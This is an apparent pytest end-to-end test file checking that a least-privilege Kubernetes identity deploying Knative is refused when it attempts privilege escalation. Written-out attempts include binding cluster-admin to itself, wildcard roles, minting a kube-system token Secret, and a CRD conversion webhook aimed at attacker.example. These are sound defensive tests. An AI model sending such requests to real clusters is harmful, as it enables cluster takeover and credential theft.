"""knative-fleet with least-privilege identities instead of cluster-admin, on the lab's
RBAC-enforcing API servers: a spoke reached as a ServiceAccount bound to exactly the
ClusterRole `python -m operations rights` derives from the stack's plan, and held by the
admission policy it prints beside it, installs, previews without change and uninstalls;
as that identity, binding cluster-admin to itself, writing `*` into a role of its own
making, into its own ClusterRole or into a Knative role, binding a Knative role to itself,
touching the policy, writing outside the release's namespaces, deleting or changing a
CRD no plan holds, and labelling or annotating (the CRDs-first step's nudge among them)
one it holds otherwise than the plan are each refused, while the release's own role as
the release writes it, and the nudge on a plan CRD being deleted, are admitted; without
one right it is refused with the verb, the resource and the rule to add while the rest of
the fleet converges and nothing on it changes; a hub identity that may not list
ClusterProfiles fails the run with its fix, and the hub Role the same command prints is
enough.

The tests share one lab setup and run in file order."""

from __future__ import annotations

import base64
import json
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml
from kubernetes import client, config, utils
from kubernetes.client.rest import ApiException

from config.fleet import parse_fleet_config
from config.identity import subject_of as subject
from knative.secret_reads import READS, reads_binding, reads_role
from lab import register
from lab.fleet import FleetStack, entry, fleet_config
from lab.handle import Lab
from lab.idempotent import delete_if_present
from lab.paths import REPO
from lab.removal import delete_crds
from lab.wait import wait_for
from lifecycle.crds_first import NUDGE, delete_all, established
from operations.access_roles import hub_documents
from tests.support.fleet import HELD, RELEASE_HELD, changed_spokes, deployments_available
from tests.support.snapshot import kept_by_policy, managed_versions, snapshot

pytestmark = pytest.mark.e2e
ACCOUNT = "knative-fleet-limited"
# Names of their own: the lab's spoke identity holds `knative-fleet-spoke`.
ROLE = "knative-fleet-limited"
HUB_ROLE = "knative-fleet-hub-reader"
PROFILE = "spoke-1-limited"
HUB_ACCOUNT = "knative-fleet-hub-reader"
TAKEN = ("apiextensions.k8s.io", "customresourcedefinitions", "patch")
RBAC = "rbac.authorization.k8s.io"
ME = {"kind": "ServiceAccount", "name": ACCOUNT, "namespace": "kube-system"}
IDENTITY = f"ServiceAccount:kube-system/{ACCOUNT}"
STAR = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
# A Knative role and binding the install holds, and a namespaced role name it ships.
KNATIVE_ROLE = "knative-serving-core"
KNATIVE_BINDING = "knative-serving-controller-admin"
KNATIVE_NAMESPACED_ROLE = "knative-serving-activator"


def limited_fleet() -> list[dict]:
    """spoke-1 reached as the limited identity (its profile's access provider issues its
    token), which the plan binds Secret reads to there."""
    return [{**entry("spoke-1", profile=PROFILE), "spokeIdentity": IDENTITY}]


def config_of(lab: Lab, fleet: list[dict], **overrides: object):
    raw = {k.split(":", 1)[1]: v for k, v in fleet_config(lab, fleet, **overrides).items()}
    return parse_fleet_config(raw)


def rights_command(config: Path) -> list[dict]:
    """`python -m operations rights` as a user runs it, on a stack file."""
    proc = subprocess.run([sys.executable, "-m", "operations", "rights", "--config", str(config),
                           "--spoke-subject", IDENTITY,
                           "--only", "spoke", "--spoke-role", ROLE], cwd=REPO,
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    return list(yaml.safe_load_all(proc.stdout))


def apply(api: client.ApiClient, docs: list[dict]) -> None:
    """Creates each document, replacing one that exists."""
    for doc in docs:
        try:
            utils.create_from_dict(api, doc)
        except utils.FailToCreateError:
            rbac = client.RbacAuthorizationV1Api(api)
            name = doc["metadata"]["name"]
            if doc["kind"] == "ClusterRole":
                rbac.replace_cluster_role(name, doc)
            elif doc["kind"] == "Role":
                rbac.replace_namespaced_role(name, doc["metadata"]["namespace"], doc)


def hub_kubeconfig(lab: Lab, token: str, path: Path) -> Path:
    """A kubeconfig for the hub that authenticates with `token` alone."""
    admin = yaml.safe_load(Path(lab.hub.kubeconfig).read_text())
    cluster = {k: v for k, v in admin["clusters"][0]["cluster"].items()
               if k in ("server", "certificate-authority", "certificate-authority-data")}
    path.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "reader",
        "clusters": [{"name": "hub", "cluster": cluster}],
        "users": [{"name": "reader", "user": {"token": token}}],
        "contexts": [{"name": "reader", "context": {"cluster": "hub", "user": "reader"}}]}))
    return path


@pytest.fixture(scope="module")
def world(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    tmp = tmp_path_factory.mktemp("least")
    s1, s2 = lab.spokes[0], lab.spokes[1]
    stack = FleetStack(lab, f"t-least-{uuid.uuid4().hex[:6]}", tmp / "state")
    stack_file = tmp / "Pulumi.limited.yaml"
    stack_file.write_text(yaml.safe_dump({"config": fleet_config(lab, limited_fleet())}))
    role_docs = rights_command(stack_file)
    rbac1 = client.RbacAuthorizationV1Api(s1.api())
    admission1 = client.AdmissionregistrationV1Api(s1.api())
    kinds = {d["kind"]: d for d in role_docs}
    try:
        register.apply_rbac(s1.api(), role_docs)
        register.register_spoke(Path(lab.hub.kubeconfig), Path(s1.kubeconfig), PROFILE,
                                account=ACCOUNT, cluster_role=None)
        hub_token, _ = register.spoke_token(lab.hub.api(), HUB_ACCOUNT, cluster_role=None)
        stack.init()
        yield {"stack": stack, "s1": s1, "s2": s2, "role": kinds["ClusterRole"], "tmp": tmp,
               "policy": kinds["ValidatingAdmissionPolicy"],
               "before": {s.name: snapshot(s.api()) for s in (s1, s2)},
               "hub_kubeconfig": hub_kubeconfig(lab, hub_token, tmp / "hub-reader.yaml")}
    finally:
        stack.destroy()
        stack.remove()
        stack.cleanup()
        register.unregister_spoke(Path(lab.hub.kubeconfig), PROFILE)
        delete_if_present(lambda: rbac1.delete_cluster_role_binding(ROLE))
        delete_if_present(lambda: rbac1.delete_cluster_role(ROLE))
        delete_if_present(lambda: admission1.delete_validating_admission_policy_binding(ROLE))
        delete_if_present(lambda: admission1.delete_validating_admission_policy(ROLE))
        for api in (s1.api(), lab.hub.api()):
            core = client.CoreV1Api(api)
            for name in (ACCOUNT, HUB_ACCOUNT):
                delete_if_present(lambda c=core, n=name: c.delete_namespaced_service_account(
                    n, register.SPOKE_SA_NAMESPACE))
                delete_if_present(lambda c=core, n=name: c.delete_namespaced_secret(
                    f"{n}-token", register.SPOKE_SA_NAMESPACE))
        hub_rbac = client.RbacAuthorizationV1Api(lab.hub.api())
        delete_if_present(lambda: hub_rbac.delete_namespaced_role_binding(
            HUB_ROLE, register.PROFILE_NAMESPACE))
        delete_if_present(lambda: hub_rbac.delete_namespaced_role(
            HUB_ROLE, register.PROFILE_NAMESPACE))


def limited_api(world: dict) -> client.ApiClient:
    """spoke-1 as the limited ServiceAccount."""
    core = client.CoreV1Api(world["s1"].api())
    secret = core.read_namespaced_secret(f"{ACCOUNT}-token", register.SPOKE_SA_NAMESPACE)
    cfg = client.Configuration()
    config.load_kube_config(config_file=world["s1"].kubeconfig, client_configuration=cfg)
    cfg.cert_file = cfg.key_file = None  # the admin's client certificate: not this identity
    cfg.api_key = {"authorization": "Bearer " + base64.b64decode(secret.data["token"]).decode()}
    return client.ApiClient(cfg)


def test_the_spoke_enforces_rbac_and_the_role_is_not_cluster_admin(world: dict) -> None:
    with pytest.raises(ApiException) as err:
        client.CoreV1Api(limited_api(world)).list_node()
    assert err.value.status == 403
    rules = world["role"]["rules"]
    assert rules and not any("*" in r["verbs"] or "*" in r["resources"] for r in rules)
    groups = {g for r in rules for g in r["apiGroups"]}
    assert {"apiextensions.k8s.io", "apps", "rbac.authorization.k8s.io"} <= groups


def test_a_stack_installs_and_previews_with_exactly_the_derived_role_and_policy(
        world: dict) -> None:
    stack: FleetStack = world["stack"]
    stack.configure(limited_fleet())
    res = stack.up()
    assert res.ok, res.why
    for namespace in ("knative-serving", "knative-eventing"):
        available = deployments_available(world["s1"].api(), namespace)
        assert available and all(available.values()), (namespace, available)
    res, steps = stack.preview_steps()
    assert res.ok and changed_spokes(steps) == {}, changed_spokes(steps)
    # Secrets: read in the install namespaces (the plan's bindings), nowhere else.
    me = limited_api(world)
    for namespace in ("knative-serving", "knative-eventing"):
        assert can_i(me, "list", "secrets", namespace), namespace
        status, text = attempt(me, "GET", f"/api/v1/namespaces/{namespace}/secrets")
        assert status == 200, (namespace, text)
    for namespace in ("", "kube-system", "default"):
        assert not can_i(me, "get", "secrets", namespace), namespace
    status, _ = attempt(me, "GET", "/api/v1/namespaces/kube-system/secrets")
    assert status == 403
    binding = client.RbacAuthorizationV1Api(world["s1"].api()).read_namespaced_role_binding(
        READS, "knative-serving")
    assert [(s.kind, s.name, s.namespace) for s in binding.subjects] == [
        ("ServiceAccount", ACCOUNT, "kube-system")]


def test_credentials_for_another_identity_than_spoke_identity_are_refused_with_the_fix(
        world: dict) -> None:
    """A spokeIdentity that is not who the credentials are for would bind the Secret reads
    to someone else: the spoke is refused before anything on it changes, naming the
    identity to set."""
    stack: FleetStack = world["stack"]
    stack.configure([{**limited_fleet()[0],
                      "spokeIdentity": "ServiceAccount:kube-system/someone-else"}])
    before = snapshot(world["s1"].api())
    try:
        res = stack.run("preview")
        assert not res.ok, res.why
        assert f"its credentials are for system:serviceaccount:kube-system:{ACCOUNT}" \
            in res.out, res.out
        assert f"Set spokeIdentity: {IDENTITY}" in res.out, res.out
        assert snapshot(world["s1"].api()) == before
    finally:
        stack.configure(limited_fleet())


def attempt(api: client.ApiClient, method: str, path: str, body: dict | None = None,
            apply: bool = False, dry_run: bool = False) -> tuple[int, str]:
    """One request as `api`'s identity: (HTTP status, response text). `apply`: a
    server-side apply by a field manager of the test's own, forced, as the provider's."""
    query = {"fieldManager": "escalation-attempt", "force": "true"} if apply else {}
    if dry_run:
        query["dryRun"] = "All"
    headers = {"Accept": "application/json"}
    if body is not None:  # a dict: JSON, which is YAML too for an apply
        headers["Content-Type"] = "application/apply-patch+yaml" if apply else "application/json"
    method, url, headers, sent, post = api.param_serialize(
        method=method, resource_path=path, query_params=list(query.items()),
        header_params=headers, body=body, auth_settings=["BearerToken"])
    response = api.call_api(method, url, header_params=headers, body=sent, post_params=post,
                            _request_timeout=30)
    response.read()
    return response.status, response.data.decode("utf-8", "replace")


def cluster_role(name: str, rules: list[dict]) -> dict:
    return {"apiVersion": f"{RBAC}/v1", "kind": "ClusterRole", "metadata": {"name": name},
            "rules": rules}


def cluster_binding(name: str, role: str, subjects: list[dict]) -> dict:
    return {"apiVersion": f"{RBAC}/v1", "kind": "ClusterRoleBinding",
            "metadata": {"name": name},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": role},
            "subjects": subjects}


def live(api: client.ApiClient, path: str) -> dict:
    status, text = attempt(api, "GET", path)
    assert status == 200, text
    return json.loads(text)


def assert_refused(by_rbac: dict[str, tuple[int, str]],
                   by_policy: dict[str, tuple[int, str]]) -> None:
    """Each attempt printed with the spoke's answer, then each refused (403): by RBAC,
    the policy not reached, or by the policy, named."""
    for what, (status, text) in {**by_rbac, **by_policy}.items():
        print(f"{what}: {status} {json.loads(text).get('message', '')[:200]}")
    for what, (status, text) in by_rbac.items():
        assert status == 403, (what, status, text)
        assert "ValidatingAdmissionPolicy" not in text, (what, text)
    for what, (status, text) in by_policy.items():
        assert status == 403, (what, status, text)
        assert f"ValidatingAdmissionPolicy '{ROLE}'" in text, (what, text)


def test_the_identity_cannot_grant_itself_more_than_the_releases_roles(world: dict) -> None:
    """Each attempt as the limited identity, with the printed role and policy, while the
    release it installed is on the spoke: refused by RBAC (the verb on that name is not
    in the role) or by the policy (a name, body or namespace not the release's)."""
    me = limited_api(world)
    admin = world["s1"].api()
    crb, cr = f"/apis/{RBAC}/v1/clusterrolebindings", f"/apis/{RBAC}/v1/clusterroles"
    core_rules = live(admin, f"{cr}/{KNATIVE_ROLE}")["rules"]
    knative_binding = live(admin, f"{crb}/{KNATIVE_BINDING}")
    before = {p: live(admin, p) for p in (f"{cr}/{KNATIVE_ROLE}", f"{crb}/{KNATIVE_BINDING}",
                                          f"{cr}/{ROLE}", f"{crb}/{ROLE}")}
    refused_by_rbac = {
        "bind cluster-admin to itself": attempt(
            me, "POST", crb, cluster_binding("fleet-is-admin", "cluster-admin", [ME])),
        "bind cluster-admin to itself under a release binding's name (apply)": attempt(
            me, "PATCH", f"{crb}/eventing-webhook-resolver", cluster_binding(
                "eventing-webhook-resolver", "cluster-admin", [ME]), apply=True),
        "create a * ClusterRole": attempt(me, "POST", cr, cluster_role("fleet-star", STAR)),
        "create a * ClusterRole (apply)": attempt(
            me, "PATCH", f"{cr}/fleet-star", cluster_role("fleet-star", STAR), apply=True),
        "bind a * ClusterRole to itself": attempt(
            me, "POST", crb, cluster_binding("fleet-star", "fleet-star", [ME])),
        "add * to its own ClusterRole": attempt(
            me, "PATCH", f"{cr}/{ROLE}", cluster_role(ROLE, STAR), apply=True),
        "add * to its own ClusterRole (update)": attempt(
            me, "PUT", f"{cr}/{ROLE}", {**before[f"{cr}/{ROLE}"], "rules": STAR}),
        "rewrite its own binding": attempt(
            me, "PATCH", f"{crb}/{ROLE}", cluster_binding(ROLE, ROLE, [ME]), apply=True),
        "delete its own binding": attempt(me, "DELETE", f"{crb}/{ROLE}"),
        "delete the policy": attempt(
            me, "DELETE", f"/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/"
                          f"{ROLE}"),
        "delete the policy's binding": attempt(
            me, "DELETE", "/apis/admissionregistration.k8s.io/v1/"
                          f"validatingadmissionpolicybindings/{ROLE}"),
        "a Deployment in kube-system": attempt(
            me, "POST", "/apis/apps/v1/namespaces/kube-system/deployments", {
                "apiVersion": "apps/v1", "kind": "Deployment",
                "metadata": {"name": "fleet-runs-as-kube-system"},
                "spec": {"selector": {"matchLabels": {"app": "x"}},
                         "template": {"metadata": {"labels": {"app": "x"}},
                                      "spec": {"serviceAccountName": "default",
                                               "containers": [{"name": "x",
                                                               "image": "x"}]}}}}),
        "a token Secret in kube-system": attempt(
            me, "POST", "/api/v1/namespaces/kube-system/secrets", {
                "apiVersion": "v1", "kind": "Secret",
                "metadata": {"name": "fleet-steals-a-token",
                             "annotations": {"kubernetes.io/service-account.name":
                                             "default"}},
                "type": "kubernetes.io/service-account-token"}),
    }
    refused_by_policy = {
        "add * to a Knative role": attempt(
            me, "PATCH", f"{cr}/{KNATIVE_ROLE}",
            cluster_role(KNATIVE_ROLE, core_rules + STAR), apply=True),
        "bind a Knative role to itself": attempt(
            me, "PATCH", f"{crb}/{KNATIVE_BINDING}",
            cluster_binding(KNATIVE_BINDING, knative_binding["roleRef"]["name"],
                            knative_binding["subjects"] + [ME]), apply=True),
        "a * Role by a Knative role's name in kube-system": attempt(
            me, "PATCH", f"/apis/{RBAC}/v1/namespaces/kube-system/roles/"
                         f"{KNATIVE_NAMESPACED_ROLE}", {
                "apiVersion": f"{RBAC}/v1", "kind": "Role",
                "metadata": {"name": KNATIVE_NAMESPACED_ROLE, "namespace": "kube-system"},
                "rules": STAR}, apply=True),
        "a Deployment in kube-system under a release Deployment's name (apply)": attempt(
            me, "PATCH", "/apis/apps/v1/namespaces/kube-system/deployments/controller", {
                "apiVersion": "apps/v1", "kind": "Deployment",
                "metadata": {"name": "controller", "namespace": "kube-system"},
                "spec": {"selector": {"matchLabels": {"app": "x"}},
                         "template": {"metadata": {"labels": {"app": "x"}},
                                      "spec": {"serviceAccountName": "default",
                                               "containers": [{"name": "x",
                                                               "image": "x"}]}}}},
            apply=True),
    }
    assert_refused(refused_by_rbac, refused_by_policy)
    after = {p: live(admin, p) for p in before}
    for path, obj in before.items():
        assert after[path]["metadata"]["resourceVersion"] == \
            obj["metadata"]["resourceVersion"], path
    # The release's own role, as the release writes it, is what the policy admits.
    status, text = attempt(me, "PATCH", f"{cr}/{KNATIVE_ROLE}",
                           cluster_role(KNATIVE_ROLE, core_rules), apply=True, dry_run=True)
    assert status == 200, text


EXT = "apiextensions.k8s.io"
# A CRD no plan holds, which the lab's admin makes for this test, and its label.
FOREIGN_CRD = "widgets.attack.example.com"
FOREIGN_LABEL = "attack.example.com/made-by"
# CRDs the plan holds (the stack keeps them on destroy: no deleteCrdsOnDestroy): Serving's,
# with its conversion webhook; Eventing's; and the one whose finalizer the nudge meets most
# often (docs/performance.md, "A destroy that waits five minutes on a CRD").
HELD_CRDS = ("services.serving.knative.dev", "brokers.eventing.knative.dev",
             "eventtransforms.eventing.knative.dev")


def foreign_crd(size: str = "integer") -> dict:
    """The CRD no plan holds, as its maker writes it; `size`: the type of its one field."""
    return {"apiVersion": f"{EXT}/v1", "kind": "CustomResourceDefinition",
            "metadata": {"name": FOREIGN_CRD, "labels": {FOREIGN_LABEL: "lab-admin"}},
            "spec": {"group": "attack.example.com", "scope": "Namespaced",
                     "names": {"plural": "widgets", "singular": "widget", "kind": "Widget",
                               "listKind": "WidgetList"},
                     "versions": [{"name": "v1", "served": True, "storage": True, "schema": {
                         "openAPIV3Schema": {"type": "object", "properties": {"spec": {
                             "type": "object", "properties": {"size": {"type": size}}}}}}}]}}


def nudge(api: client.ApiClient, name: str) -> tuple[int, str]:
    """The nudge as lifecycle.crds_first.delete_all sends it (its annotation, by the
    kubernetes client's patch), as `api`'s identity: (HTTP status, response text)."""
    try:
        client.ApiextensionsV1Api(api).patch_custom_resource_definition(
            name, {"metadata": {"annotations": {NUDGE: str(int(time.time()))}}},
            _request_timeout=30)
    except ApiException as exc:
        return exc.status, str(exc.body or "")
    return 200, "{}"


def crd_identity(admin: client.ApiClient, name: str) -> tuple[str, str, bool]:
    """(uid, resourceVersion, being deleted) of a CRD, read as admin: any write to it, or
    its deletion and re-creation, changes them."""
    meta = live(admin, f"{CRDS}/{name}")["metadata"]
    return meta["uid"], meta["resourceVersion"], "deletionTimestamp" in meta


def test_the_identity_cannot_delete_or_change_crds_but_the_plans_as_the_plan_writes_them(
        world: dict) -> None:
    """The CRDs-first step holds each component's CRDs: it applies them, deletes them on
    destroy with deleteCrdsOnDestroy, and annotates one whose deletion is stuck (the
    nudge). As the identity, with the printed role and policy, on a spoke it installed
    with a stack that keeps its CRDs: deleting a CRD no plan holds (made by the lab's
    admin), or every CRD of its group, annotating it (the nudge's annotation among
    them), relabelling it or changing its schema or conversion, is refused by RBAC (no
    verb on that name); a label, an annotation (the nudge's, with no deletion under way)
    or an owner reference the plan does not give one of the plan's CRDs is refused by
    the policy. Deleting one of the plan's CRDs is refused by RBAC too: the stack keeps
    them, so its rights hold no `delete` on a CRD (fleet.rights.kept_crds; tried as a
    dry run, which changes nothing even if admitted). Each CRD is as it was (uid,
    resourceVersion) and no object appeared."""
    stack: FleetStack = world["stack"]
    stack.configure(limited_fleet())
    res = stack.up()
    assert res.ok, res.why
    me, admin = limited_api(world), world["s1"].api()
    ext = client.ApiextensionsV1Api(admin)
    delete_crds(admin, [FOREIGN_CRD])  # one an interrupted run left
    ext.create_custom_resource_definition(foreign_crd())
    try:
        wait_for(lambda: established(ext.read_custom_resource_definition(FOREIGN_CRD)),
                 60, what=f"{FOREIGN_CRD} Established")
        foreign = f"{CRDS}/{FOREIGN_CRD}"
        live_foreign = live(admin, foreign)
        kube_system = client.CoreV1Api(admin).read_namespace("kube-system").metadata.uid
        before = {n: crd_identity(admin, n) for n in (FOREIGN_CRD, *HELD_CRDS)}
        before_objects = snapshot(admin)
        assert not can_i(me, "deletecollection", "customresourcedefinitions", "", EXT)
        refused_by_rbac = {
            "delete a CRD no plan holds": send(me, "DELETE", foreign),
            "delete every CRD of its maker (deletecollection)": send(
                me, "DELETE", f"{CRDS}?labelSelector={FOREIGN_LABEL}%3Dlab-admin"),
            "the nudge's annotation on a CRD no plan holds": nudge(me, FOREIGN_CRD),
            "another annotation on a CRD no plan holds": send(
                me, "PATCH", foreign, {"metadata": {"annotations": {
                    "attack.example.com/note": "fleet"}}}, patch="merge"),
            "its maker's label rewritten (JSON patch)": send(
                me, "PATCH", foreign, [{"op": "replace",
                                        "path": "/metadata/labels/attack.example.com~1made-by",
                                        "value": "knative-fleet"}], patch="json"),
            "its schema changed (apply)": send(
                me, "PATCH", foreign, foreign_crd(size="string"), patch="apply"),
            "its schema changed (update)": send(
                me, "PUT", foreign, {**live_foreign, "spec": foreign_crd(size="string")["spec"]}),
            "its schema made to take anything (JSON patch)": send(
                me, "PATCH", foreign, [{"op": "replace",
                                        "path": "/spec/versions/0/schema/openAPIV3Schema",
                                        "value": {"type": "object",
                                                  "x-kubernetes-preserve-unknown-fields": True}}],
                patch="json"),
            "delete a CRD the plan holds, the stack keeping its CRDs (dry run)": attempt(
                me, "DELETE", f"{CRDS}/{HELD_CRDS[0]}", dry_run=True),
            "a conversion webhook on a CRD no plan holds": send(
                me, "PATCH", foreign, {"spec": {"conversion": {
                    "strategy": "Webhook", "webhook": {
                        "conversionReviewVersions": ["v1"],
                        "clientConfig": {"url": "https://attacker.example/convert"}}}}},
                patch="merge"),
        }
        services, brokers, transforms = HELD_CRDS
        refused_by_policy = {
            "a label on a CRD the plan holds": send(
                me, "PATCH", f"{CRDS}/{services}", {"metadata": {"labels": {
                    FOREIGN_LABEL: "knative-fleet"}}}, patch="merge"),
            "a label on a CRD the plan holds (apply)": send(
                me, "PATCH", f"{CRDS}/{brokers}", {
                    "apiVersion": f"{EXT}/v1", "kind": "CustomResourceDefinition",
                    "metadata": {"name": brokers, "labels": {FOREIGN_LABEL: "knative-fleet"}}},
                patch="apply"),
            "another value for a label the plan gives a CRD": send(
                me, "PATCH", f"{CRDS}/{brokers}", {"metadata": {"labels": {
                    "knative.dev/crd-install": "false"}}}, patch="merge"),
            "the nudge's annotation on a CRD the plan holds, no deletion under way": nudge(
                me, transforms),
            "another annotation on a CRD the plan holds": send(
                me, "PATCH", f"{CRDS}/{services}", {"metadata": {"annotations": {
                    "attack.example.com/note": "fleet"}}}, patch="merge"),
            "an owner reference on a CRD the plan holds (collected with its owner)": send(
                me, "PATCH", f"{CRDS}/{transforms}", {"metadata": {"ownerReferences": [{
                    "apiVersion": "v1", "kind": "Namespace", "name": "kube-system",
                    "uid": kube_system}]}}, patch="merge"),
        }
        assert_refused(refused_by_rbac, refused_by_policy)
        _, text = refused_by_policy[
            "the nudge's annotation on a CRD the plan holds, no deletion under way"]
        assert f"annotations the plan does not give it: {NUDGE}" in text, text
        after = {n: crd_identity(admin, n) for n in before}
        assert after == before
        assert snapshot(admin) == before_objects
    finally:
        # As admin, and gone with the APIService the API server registered for its group
        # before any later test's snapshot or leak check.
        delete_crds(admin, [FOREIGN_CRD])
        service = "/apis/apiregistration.k8s.io/v1/apiservices/v1.attack.example.com"
        wait_for(lambda: stored(admin, service)[0] == 404, 60,
                 what=f"the APIService of {FOREIGN_CRD}'s group gone")


def test_the_nudge_is_admitted_on_a_plan_crd_being_deleted_and_nothing_else_is(
        world: dict) -> None:
    """The CRDs-first step's nudge (lifecycle.crds_first.delete_all) on a CRD the plan
    holds whose deletion is under way, as the identity with the printed role and policy:
    admitted, and stored. Another annotation or a label on that same CRD is still refused
    by the policy. The lab's admin holds the CRD Terminating (a finalizer of its own),
    then lets it go; `up --refresh` finds it gone and applies it again."""
    stack: FleetStack = world["stack"]
    me, admin = limited_api(world), world["s1"].api()
    ext = client.ApiextensionsV1Api(admin)
    name = HELD_CRDS[2]
    path = f"{CRDS}/{name}"
    ext.patch_custom_resource_definition(name, {"metadata": {"finalizers": [HELD]}})
    deleting = False
    try:
        ext.delete_custom_resource_definition(name)
        deleting = True
        wait_for(lambda: crd_identity(admin, name)[2], 60, what=f"{name} being deleted")
        status, text = nudge(me, name)
        print(f"the nudge on a plan CRD being deleted: {status}")
        assert status == 200, text
        assert NUDGE in live(admin, path)["metadata"]["annotations"]
        assert_refused({}, {
            "another annotation on a plan CRD being deleted": send(
                me, "PATCH", path, {"metadata": {"annotations": {
                    "attack.example.com/note": "fleet"}}}, patch="merge"),
            "a label on a plan CRD being deleted": send(
                me, "PATCH", path, {"metadata": {"labels": {
                    FOREIGN_LABEL: "knative-fleet"}}}, patch="merge"),
        })
        assert crd_identity(admin, name)[2]
    finally:
        ext.patch_custom_resource_definition(name, RELEASE_HELD)
        if deleting:
            # As the product waits for a CRD's end: a finalizer that gave up once on a busy
            # API server (InstanceDeletionFailed) is nudged, as the admin here.
            delete_all(ext, [name])
    res = stack.up("--refresh")
    assert res.ok, res.why
    assert established(ext.read_custom_resource_definition(name))


@contextmanager
def one_right_taken(world: dict) -> Iterator[tuple[str, str, str]]:
    """spoke-1's role for the limited identity without TAKEN's verb, put back after."""
    role = world["role"]
    group, resource, verb = TAKEN
    rules = []
    for rule in role["rules"]:
        if group in rule["apiGroups"] and resource in rule["resources"]:
            rules.append({**rule, "verbs": [v for v in rule["verbs"] if v != verb]})
        else:
            rules.append(rule)
    apply(world["s1"].api(), [{**role, "rules": rules}])
    try:
        yield TAKEN
    finally:
        apply(world["s1"].api(), [role])


def assert_denied(out: str) -> None:
    """The refusal names spoke-1, the right it lacks, the rule to add and the command."""
    group, resource, verb = TAKEN
    assert "spoke 'spoke-1': SpokeAccessDenied: its identity may not " \
           f"{verb} {resource}.{group}" in out, out
    assert f"Add to its ClusterRole: apiGroups: ['{group}'], resources: [{resource}], " \
           "resourceNames: [" in out, out
    assert f"], verbs: [{verb}]" in out, out
    assert "python -m operations rights --stack <stack>" in out


def test_an_installed_spoke_whose_identity_lost_a_right_is_refused_and_left_unchanged(
        world: dict) -> None:
    """After the install, the identity loses one right the plan needs: a run carrying a
    change for the spoke is refused naming that right, and writes nothing there (every
    managed object's content as it was)."""
    stack: FleetStack = world["stack"]
    api = world["s1"].api()
    changed = limited_fleet()
    changed[0]["serving"]["config"] = {"autoscaler": {"stable-window": "77s"}}
    with one_right_taken(world):
        before = managed_versions(api)
        stack.configure(changed)
        res = stack.up()
        assert not res.ok, res.out
        assert_denied(res.out)
        assert managed_versions(api) == before
    stack.configure(limited_fleet())


def test_the_stack_uninstalls_with_them_and_leaves_nothing(world: dict) -> None:
    stack: FleetStack = world["stack"]
    res = stack.destroy()
    assert res.ok, res.why
    after = snapshot(world["s1"].api())
    before = world["before"]["spoke-1"]
    assert after - before - kept_by_policy(after) == set()


def test_without_one_right_that_spoke_alone_is_refused_and_left_untouched(
        world: dict) -> None:
    stack: FleetStack = world["stack"]
    with one_right_taken(world):
        before = snapshot(world["s1"].api())
        stack.configure([*limited_fleet(), entry("spoke-2")])
        res = stack.up()
        assert not res.ok, res.out
        assert_denied(res.out)
        available = deployments_available(world["s2"].api(), "knative-serving")
        assert available and all(available.values()), available
        assert snapshot(world["s1"].api()) == before
    stack.configure([entry("spoke-2")])
    res = stack.destroy()
    assert res.ok, res.why


def test_a_hub_identity_without_the_hub_role_fails_with_its_fix_and_the_role_suffices(
        world: dict, lab: Lab) -> None:
    stack: FleetStack = world["stack"]
    group = {"name": "limited", "namespace": register.PROFILE_NAMESPACE,
             "selector": {"matchLabels": {"no-such-label": "x"}},
             "serving": {"version": "1.23"}}
    hub = {"kubeconfig": str(world["hub_kubeconfig"])}
    stack.configure([], groups=[group], hub=hub)
    res = stack.run("preview")
    assert not res.ok
    assert "cannot select the fleet's spokes: ClusterProfileUnavailable" in res.out, res.out
    assert "403" in res.out and "may get clusterprofiles" in res.out, res.out
    cfg = config_of(lab, [], groups=[group], hub=hub)
    apply(lab.hub.api(), hub_documents(
        cfg, subject(f"ServiceAccount:{register.SPOKE_SA_NAMESPACE}/{HUB_ACCOUNT}"), HUB_ROLE))
    res = stack.run("preview")
    assert res.ok, res.why


def send(api: client.ApiClient, method: str, path: str, body: dict | None = None, *,
         patch: str = "", headers: dict[str, str] | None = None) -> tuple[int, str]:
    """One request as `api`'s identity: (HTTP status, response text). `patch`: `apply`
    (server-side apply, forced, by a field manager of the attacker's own), `merge` or
    `json`."""
    query = {"fieldManager": "attacker", "force": "true"} if patch == "apply" else {}
    kinds = {"apply": "application/apply-patch+yaml", "merge": "application/merge-patch+json",
             "json": "application/json-patch+json"}
    sent_headers = {"Accept": "application/json", **(headers or {})}
    if body is not None:
        sent_headers["Content-Type"] = kinds.get(patch, "application/json")
    method, url, sent_headers, sent, post = api.param_serialize(
        method=method, resource_path=path, query_params=list(query.items()),
        header_params=sent_headers, body=body, auth_settings=["BearerToken"])
    response = api.call_api(method, url, header_params=sent_headers, body=sent,
                            post_params=post, _request_timeout=30)
    response.read()
    return response.status, response.data.decode("utf-8", "replace")


def can_i(api: client.ApiClient, verb: str, resource: str, namespace: str = "",
          group: str = "") -> bool:
    """`kubectl auth can-i VERB RESOURCE` as `api`'s identity."""
    review = client.AuthorizationV1Api(api).create_self_subject_access_review({
        "spec": {"resourceAttributes": {"verb": verb, "resource": resource, "group": group,
                                        "namespace": namespace}}})
    return bool(review.status.allowed)


KS, KE = "knative-serving", "knative-eventing"
APPS = f"/apis/apps/v1/namespaces/{KS}/deployments"
CORE = f"/api/v1/namespaces/{KS}"
ADMISSION = "/apis/admissionregistration.k8s.io/v1"
CRDS = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions"


def deployment(name: str, pod: dict) -> dict:
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": name, "namespace": KS},
            "spec": {"selector": {"matchLabels": {"app": name}},
                     "template": {"metadata": {"labels": {"app": name}}, "spec": pod}}}


def webhook_to(service: dict | None = None, url: str = "") -> dict:
    config = {"url": url} if url else {"service": service}
    return {"apiVersion": "admissionregistration.k8s.io/v1",
            "kind": "MutatingWebhookConfiguration",
            "metadata": {"name": "webhook.serving.knative.dev"},
            "webhooks": [{"name": "webhook.serving.knative.dev", "clientConfig": config,
                          "admissionReviewVersions": ["v1"], "sideEffects": "None"}]}


def attacks(world: dict) -> dict[str, tuple[str, str, dict | None, str, dict]]:
    """{what: (method, path, body, patch, headers)}: what an attacker holding the spoke
    identity tries next, each path Kubernetes documents to more rights: tokens, Secrets,
    workloads, webhooks, CRDs, labels, bindings, policies, impersonation."""
    admin = world["s1"].api()
